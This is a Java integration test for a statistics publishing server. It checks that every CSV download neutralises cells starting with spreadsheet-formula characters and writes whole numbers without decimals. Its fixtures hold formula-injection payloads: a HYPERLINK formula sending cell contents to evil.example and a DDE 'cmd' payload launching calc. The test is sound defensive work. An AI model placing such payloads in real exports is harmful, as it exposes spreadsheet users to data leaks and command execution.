package scot.cairn.server;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import java.io.IOException;
import java.io.StringReader;
import java.net.URI;
import java.net.URLEncoder;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVParser;
import org.apache.commons.csv.CSVRecord;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestInstance;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.boot.test.context.SpringBootTest;
import org.springframework.boot.test.web.server.LocalServerPort;
import scot.cairn.cli.DatasetPublisher;
import scot.cairn.store.TripleStore;
import scot.cairn.versions.Release;
import scot.cairn.versions.Versions;
import scot.cairn.vocab.UriScheme;

/**
 * What every public answer looks like, over real HTTP on the bundled examples plus one dataset
 * published twice whose labels start like spreadsheet formulas ({@code =}, {@code +}, {@code -},
 * {@code @}) and whose counts are whole numbers: formula cells neutralised in every CSV producer
 * (and kept on request), and numbers as published in every output. PublicHeadersIT and
 * ErrorPagesIT (and ServerIT) use the same application properties, so Spring's test context cache starts it once.
 */
@TestInstance(TestInstance.Lifecycle.PER_CLASS)
@SpringBootTest(
        classes = PublisherApplication.class,
        webEnvironment = SpringBootTest.WebEnvironment.RANDOM_PORT,
        properties = {
            "cairn.data-dir=target/outputs-it-data/${random.uuid}",
            "cairn.fuseki.port=0",
            "cairn.profiles.dir=../cube-definitions/profiles",
            "cairn.publish.password=outputs-it"
        })
class PublicOutputsIT {
    static final ObjectMapper JSON = new ObjectMapper();
    static final String SLUG = "hostile-labels";
    static final String DATASET = "http://statistics.gov.scot/data/" + SLUG;
    static final String REF_AREA = "http://purl.org/linked-data/sdmx/2009/dimension#refArea";
    static final String EQUALS = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")";
    static final String PLUS = "+cmd|' /C calc'!A0";
    static final String MINUS = "-2+3";
    static final String AT = "@SUM(1+1)";
    static final String TITLE = "=HYPERLINK(\"http://evil.example/t\",\"Hostile labels\")";
    static final String LOCALITY = "=HYPERLINK(\"http://evil.example/l\",\"Upper Culter\")";

    static final String DEFINITION = """
            slug: hostile-labels
            title: '=HYPERLINK("http://evil.example/t","Hostile labels")'
            description: Labels that start like spreadsheet formulas, and whole numbers, for the outputs tests.
            publisher: {label: Cairn tests, uri: "http://statistics.gov.scot/id/organisation/cairn-tests"}
            themes: [education]
            issued: 2024-06-01
            nextUpdateDue: 2031-06-01
            contact: tests@cairn.invalid
            levels: [data-zone]
            dimensions:
              - column: Label
                name: hostileLabel
                scheme: hostile-label
                codes:
                  - {code: equals, label: '=HYPERLINK("http://evil.example/?"&A1,"Click")'}
                  - {code: plus, label: "+cmd|' /C calc'!A0"}
                  - {code: minus, label: '-2+3'}
                  - {code: at, label: '@SUM(1+1)'}
            measures:
              - measurement: Count
                units: [People]
                datatype: integer
              - measurement: Ratio
                units: [Percent]
            """;

    static String data(String firstCount) {
        return "FeatureCode,DateCode,Measurement,Units,Value,Label\n"
                + "S01006506,2021,Count,People," + firstCount + ",equals\n"
                + "S01006506,2021,Count,People,-12,plus\n"
                + "S01006506,2021,Ratio,Percent,24.60,minus\n"
                + "S01006506,2021,Ratio,Percent,118049,at\n"
                + "S01006507,2021,Count,People,*,equals\n"
                + "S01006507,2021,Count,People,7,plus\n"
                + "S01006507,2021,Ratio,Percent,5,minus\n"
                + "S01006507,2021,Ratio,Percent,6.25,at\n";
    }

    @LocalServerPort
    int port;

    @Autowired
    TripleStore store;

    @Autowired
    UriScheme uris;

    @Autowired
    Versions versions;

    String localitySlug;

    private final HttpClient http =
            HttpClient.newBuilder().version(HttpClient.Version.HTTP_1_1).build();

    @BeforeAll
    void publishTwoVersionsAndALocality() throws Exception {
        Path dir = Files.createDirectories(Path.of("target/outputs-it-files/" + System.nanoTime()));
        Path yaml = Files.writeString(dir.resolve(SLUG + ".yaml"), DEFINITION);
        DatasetPublisher publisher = new DatasetPublisher(store, uris, versions);
        var first = publisher.publish(
                yaml,
                Files.writeString(dir.resolve("v1.csv"), data("118049")),
                new Release("First release", Release.Kind.UPDATE),
                null,
                100);
        assertThat(first.outcome().published()).isTrue();
        var second = publisher.publish(
                yaml,
                Files.writeString(dir.resolve("v2.csv"), data("118050")),
                new Release("Revised count", Release.Kind.CORRECTION),
                null,
                100);
        assertThat(second.outcome().published()).isTrue();
        HttpResponse<String> created = send(HttpRequest.newBuilder(uri("/localities"))
                .header("Content-Type", "application/json")
                .POST(HttpRequest.BodyPublishers.ofString("{\"name\": " + JSON.writeValueAsString(LOCALITY)
                        + ", \"dataZones\": [\"S01006506\", \"S01006507\", \"S01006508\", \"S01006509\"]}")));
        assertThat(created.statusCode()).as(created.body()).isEqualTo(201);
        localitySlug = JSON.readTree(created.body()).get("slug").asText();
    }

    URI uri(String path) {
        return URI.create("http://localhost:" + port + path);
    }

    HttpResponse<String> send(HttpRequest.Builder b) throws IOException, InterruptedException {
        return http.send(b.build(), HttpResponse.BodyHandlers.ofString(StandardCharsets.UTF_8));
    }

    HttpResponse<String> get(String path, String... headers) throws Exception {
        HttpRequest.Builder b = HttpRequest.newBuilder(uri(path)).GET();
        if (headers.length > 0) {
            b.headers(headers);
        }
        return send(b);
    }

    static String enc(String s) {
        return URLEncoder.encode(s, StandardCharsets.UTF_8);
    }

    static List<CSVRecord> csv(HttpResponse<String> r) throws IOException {
        assertThat(r.statusCode()).as(r.uri() + ": " + r.body()).isEqualTo(200);
        assertThat(r.headers().firstValue("Content-Type").orElse(""))
                .as(r.uri().toString())
                .startsWith("text/csv");
        try (CSVParser p = CSVParser.parse(new StringReader(r.body()), CSVFormat.RFC4180)) {
            return p.getRecords();
        }
    }

    static List<String> cells(List<CSVRecord> records) {
        return records.stream().flatMap(r -> r.toList().stream()).toList();
    }

    /** Every cell of a CSV that holds one of the hostile labels starts with a quote; with formulas=keep, none does. */
    void assertNeutralised(String path, List<String> labels) throws Exception {
        List<String> neutralised = cells(csv(get(path)));
        for (String label : labels) {
            assertThat(neutralised).as(path).contains("'" + label).doesNotContain(label);
        }
        String keep = path + (path.contains("?") ? "&" : "?") + "formulas=keep";
        List<String> kept = cells(csv(get(keep)));
        for (String label : labels) {
            assertThat(kept).as(keep).contains(label).doesNotContain("'" + label);
        }
    }

    @Test
    void everyCsvProducerNeutralisesFormulaCellsUnlessAskedToKeepThem() throws Exception {
        List<String> all = List.of(EQUALS, PLUS, MINUS, AT);
        assertNeutralised("/downloads/cube-table?uri=" + enc(DATASET), all);
        assertNeutralised(
                "/slice/observations.csv?dataset=" + enc(DATASET) + "&" + enc(REF_AREA) + "="
                        + enc("http://statistics.gov.scot/id/statistical-geography/S01006506"),
                all);
        assertNeutralised("/data/" + SLUG + "/version/1/data.csv", all);
        assertNeutralised("/data/" + SLUG + "/changes.csv?from=1&to=2", List.of(EQUALS));
        assertNeutralised("/data.csv", List.of(TITLE));
        assertNeutralised("/calendar.csv", List.of(TITLE));
        String labels = "SELECT ?label WHERE { ?c <http://www.w3.org/2004/02/skos/core#inScheme> "
                + "<http://statistics.gov.scot/def/concept-scheme/hostile-label> ; <http://www.w3.org/2000/01/rdf-schema#label> ?label }";
        assertNeutralised("/sparql.csv?query=" + enc(labels), all);
        assertNeutralised(
                "/tabulate?dataset=persons&variables=sex&locality=" + localitySlug + "&format=csv", List.of(LOCALITY));
        assertNeutralised("/profiles/example-local/localities/" + localitySlug + ".csv", List.of(LOCALITY));
    }

    @Test
    void csvResultsOfTheVersionsEndpointAreNeutralisedToo() throws Exception {
        String labels = "SELECT ?label WHERE { VALUES ?label { \"=1+2\" \"-3\" } }";
        List<String> neutral =
                cells(csv(get("/versions/sparql?dataset=" + SLUG + "&query=" + enc(labels), "Accept", "text/csv")));
        assertThat(neutral).contains("'=1+2", "-3");
        List<String> kept = cells(csv(
                get("/versions/sparql?dataset=" + SLUG + "&formulas=keep&query=" + enc(labels), "Accept", "text/csv")));
        assertThat(kept).contains("=1+2", "-3");
    }

    @Test
    void negativeNumbersAreLeftAloneAndWholeNumbersHaveNoDecimalPoint() throws Exception {
        List<CSVRecord> rows = csv(get("/downloads/cube-table?uri=" + enc(DATASET)));
        int value = rows.get(0).toList().indexOf("Value");
        List<String> values =
                rows.subList(1, rows.size()).stream().map(r -> r.get(value)).toList();
        assertThat(values).containsExactlyInAnyOrder("118050", "-12", "24.6", "118049", "", "7", "5", "6.25");
    }

    @Test
    void aWholeNumberIsWrittenAsOneInEveryOutput() throws Exception {
        String v1 = csvText("/data/" + SLUG + "/version/1/data.csv");
        assertThat(v1).contains(",118049,").doesNotContain("118049.0");
        assertThat(csvText("/data/" + SLUG + "/changes.csv?from=1&to=2"))
                .contains(",118049,", ",118050,")
                .doesNotContain(".0,");
        assertThat(csvText("/slice/observations.csv?dataset=" + enc(DATASET)))
                .doesNotContain("118049.0")
                .contains(",118049,");

        HttpResponse<String> stat = get("/slice/observations.json?dataset=" + enc(DATASET));
        assertThat(stat.statusCode()).isEqualTo(200);
        assertThat(stat.body())
                .contains(":118049,")
                .contains(":118050")
                .contains(":24.6")
                .doesNotContain("118049.0");
        JsonNode ds = JSON.readTree(stat.body());
        assertThat(ds.at("/dimension/measureType/category/unit/count/label").asText())
                .isEqualTo("People");
        assertThat(ds.at("/dimension/measureType/category/unit/count/decimals").asInt())
                .isZero();
        assertThat(ds.at("/dimension/measureType/category/unit/ratio/label").asText())
                .isEqualTo("Percent");
        assertThat(ds.at("/extension/status/suppressed").asText()).isEqualTo("Suppressed (confidential)");
        assertThat(ds.get("status").toString()).contains("\"suppressed\"");

        // the slice preview on the dataset's page, and the observation's own page
        HttpResponse<String> page = get("/datasets/" + SLUG + "?show=1", "Accept", "text/html");
        assertThat(page.statusCode()).isEqualTo(200);
        // pages group thousands (issue 18), and a whole decimal is whole there too
        assertThat(page.body())
                .contains(">118,049<")
                .contains("data-value=\"118049\"")
                .doesNotContain("118,049.0")
                .doesNotContain("118049.0");
        HttpResponse<String> described = get("/sparql.csv?query="
                + enc("SELECT ?o WHERE { ?o <http://purl.org/linked-data/cube#dataSet> <" + DATASET
                        + "> ; <http://statistics.gov.scot/def/measure-properties/count> 118050 }"));
        String observation = described.body().strip().split("\r\n")[1];
        HttpResponse<String> html =
                get(observation.substring("http://statistics.gov.scot".length()), "Accept", "text/html");
        assertThat(html.statusCode()).as(observation).isEqualTo(200);
        assertThat(html.body()).contains("118050").doesNotContain("118050.0");

        // a profile of computed figures, and the tabulation service's JSON
        HttpResponse<String> profile = get("/profiles/example-local/areas/S12000033.json");
        assertThat(profile.statusCode()).isEqualTo(200);
        assertThat(profile.body()).doesNotContainPattern("\"(value|numerator|denominator)\" : -?\\d+\\.0[,\\n ]");
        HttpResponse<String> table = get("/tabulate?dataset=persons&variables=sex&level=council");
        assertThat(table.body()).doesNotContainPattern("\"count\":\\d+\\.0");
    }

    String csvText(String path) throws Exception {
        HttpResponse<String> r = get(path);
        assertThat(r.statusCode()).as(path + ": " + r.body()).isEqualTo(200);
        return r.body();
    }
}
